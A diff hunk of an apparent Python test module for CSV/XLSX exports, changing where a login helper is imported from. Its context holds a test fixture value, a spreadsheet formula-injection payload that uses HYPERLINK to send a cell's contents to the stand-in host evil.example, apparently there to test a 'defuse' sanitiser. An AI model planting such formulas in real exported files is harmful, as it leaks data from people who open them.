@@ -14,7 +14,8 @@ from sqlalchemy import Engine
 from kontrol.accounts.workspaces import Workspace
 from kontrol.ingest.importing import import_file
 from kontrol.metrics.exports import ExportTable, defuse, to_csv, to_xlsx
-from tests.webapp import log_in, record
+from tests.factories import log_in
+from tests.webapp import record
 
 NOVEMBER = "period=month&date_from=2026-11-01&date_to=2026-11-30"
 EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"click")'
